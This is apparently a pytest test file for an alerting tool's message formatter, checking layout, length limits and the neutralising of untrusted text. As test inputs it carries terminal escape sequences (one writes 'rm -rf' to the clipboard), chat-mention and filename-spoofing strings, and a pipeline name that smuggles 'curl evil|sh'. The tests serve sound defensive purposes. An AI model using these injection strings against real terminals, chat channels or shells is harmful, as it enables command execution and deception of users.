"""The message contract, and text from outside made harmless."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.model import Health, Severity, State, pipeline_key, run_key
from engine.config.model import PipelineRule
from engine.notify import message
from engine.notify.channels import fit
from engine.notify.message import Story, Told, plain, problems
from tests.alerts.floor import MINUTE, Floor

AT = 1_795_150_200_000  # 2026-11-20 05:50 in Paris


def test_the_whole_message() -> None:
    story = Story(
        object="daily_sales", fact="failed: ORA-00001", environment="prod", source="prod-airflow", business_date="2026-11-19",
        now="run r1 failed at 05:50 after 4m 02s", impact="3 consumers: bi-team, finance, crm", do="runbook sales.md", ends="a success",
    )  # fmt: skip
    told = Told(id="01JABCDEFGHJKMNPQRSTVW7K2F", severity=Severity.HIGH, title=story.title, body=story.body, since=AT)
    title, body = message.message(told, message_id="01JM", timezone="Europe/Paris", now=AT + MINUTE, notice=2)
    assert title == "[HIGH] daily_sales failed: ORA-00001"
    assert body == (
        "prod / prod-airflow · business date 2026-11-19 · since 05:50 Europe/Paris (04:50 UTC)\n"
        "Now: run r1 failed at 05:50 after 4m 02s\n"
        "Impact: 3 consumers: bi-team, finance, crm\n"
        "Do: runbook sales.md · Ack: watchfloor ack 7K2F --until 30m\n"
        "id 7K2F · message 01JM · notice 2"
    )
    assert problems(title, body) == []
    assert "Ends" in story.body


def test_another_day_is_named_and_utc_is_not_said_twice() -> None:
    assert message.moment(AT, "UTC", AT + 86_400_000) == "20 Nov 04:50 UTC"
    assert message.moment(AT, "Nowhere/Atall") == "04:50 Nowhere/Atall (04:50 UTC)"


HOSTILE = "\x1b]52;c;cm0gLXJm\x07\x1b[31mred\x1b[0m\x00\x9b2J <b>x</b> <!channel> @everyone [link](http://evil) `rm` \u202egpj.exe\ud800\r\nInjected: line"


def test_hostile_text_is_harmless() -> None:
    clean = plain(HOSTILE)
    assert clean == "red ‹b>x‹/b> ‹!channel> @ everyone [link] (http://evil) 'rm' gpj.exe Injected: line"
    assert clean.isprintable()


@given(st.text())
def test_plain_is_one_printable_line_and_stays_as_it_is(text: str) -> None:
    clean = plain(text)
    assert len(clean) <= message.LINE_MAX
    assert all(c.isprintable() or c.isspace() or ord(c) > 0x9F for c in clean)
    assert not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 for c in clean)
    clean.encode()
    assert plain(clean) == clean


def test_hostile_names_and_errors_through_the_rules(tmp_path: Path) -> None:
    hostile = HOSTILE.replace("\ud800", "")  # the store takes no lone surrogate
    floor = Floor(tmp_path, rules=(PipelineRule(match="*", owner=hostile, runbook=hostile, consumers=(hostile,) * 9),))
    floor.clock.forward(MINUTE)
    floor.list("\x1b[31mevil\nname")
    floor.poll(floor.run(State.FAILED, "\x1b[2Jrun", pipeline="\x1b[31mevil\nname", error=hostile * 100))
    floor.health(Health.FRESH)
    for _ in range(2):
        floor.health(Health.UNREACHABLE, hostile)
    letters = floor.all("SELECT title, body FROM outbox")
    assert len(letters) == 2
    for title, body in letters:
        assert problems(title, body) == []
        assert len(title) <= message.TITLE_MAX
        assert len(body) <= message.BODY_MAX
        assert "\x1b" not in title + body
        assert "<b>" not in title + body
        assert len(body.split("\n")) == 5
    for text in floor.one("SELECT title || body FROM alert WHERE rule = 'failed-run'").split("\n"):
        assert not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 for c in text)
    floor.close()


def test_every_kind_of_message_keeps_the_contract() -> None:
    story = Story(object="x", fact="", environment="", source="s", now="", impact="", do="", ends="")
    told = Told(id="0" * 26, severity=Severity.LOW, title=story.title, body=story.body, since=AT)
    assert (
        problems(*message.resolved(told, evidence="r2 succeeded", resolved=AT + MINUTE, message_id="1", timezone="UTC"))
        == []
    )
    assert problems(*message.trial("ana", message_id="1", timezone="UTC", now=AT, where="here")) == []
    assert "Now" in problems(*message.message(told, message_id="1", timezone="UTC", now=AT))


@pytest.mark.parametrize("limit", [60, 200, 1000])
def test_a_short_channel_keeps_where_since_and_id(limit: int) -> None:
    body = (
        "prod / airflow · since 05:50 UTC\nNow: "
        + "n" * 900
        + "\nImpact: "
        + "i" * 900
        + "\nDo: x\nid 7K2F · message 01J"
    )
    short = fit(body, limit)
    assert len(short) <= limit
    assert short.startswith("prod / airflow · since")
    if limit >= 100:
        assert short.endswith("id 7K2F · message 01J")
    assert fit(body, 0) == body


def test_due_times_of_one_kind_are_told_together() -> None:
    body = "prod / s\nNow: failed\nImpact: none\nDo: x\nEnds: y"
    ticks = [f"deadline broken: due 15:{m:02}" for m in range(31, 53, 2)]
    owed = "; ".join([*ticks, "at risk: due 16:00, must start by 15:30"])
    line = message.with_lines(body, owed, "").split("\n")[2]
    assert line == (
        "Owed: deadline broken: due 15:31, 15:33, 15:35 … 15:51 (11 times); at risk: due 16:00, must start by 15:30"
    )
    one = message.with_lines(body, "deadline broken: due 06:00", "").split("\n")[2]
    assert one == "Owed: deadline broken: due 06:00"


@given(st.text(st.characters(exclude_categories=("Cs", "Cc")), min_size=1))
def test_a_key_in_a_command_is_one_word_whatever_it_holds(native: str) -> None:
    key = pipeline_key("a", native)
    assert shlex.split(f"watchfloor logs {message.quoted(key)}") == ["watchfloor", "logs", key]


def test_a_failed_run_tells_no_shell_to_run_a_pipelines_name(tmp_path: Path) -> None:
    name = "x';curl${IFS}evil|sh;'"
    floor = Floor(tmp_path)
    try:
        floor.list(name)
        floor.poll(floor.run(State.FAILED, pipeline=name))
        body = floor.one("SELECT body FROM alert")
        command = body.partition("log: ")[2].splitlines()[0].partition(" · ")[0]
        assert shlex.split(command) == ["watchfloor", "logs", run_key(pipeline_key("flow", name), "r1")]
    finally:
        floor.close()
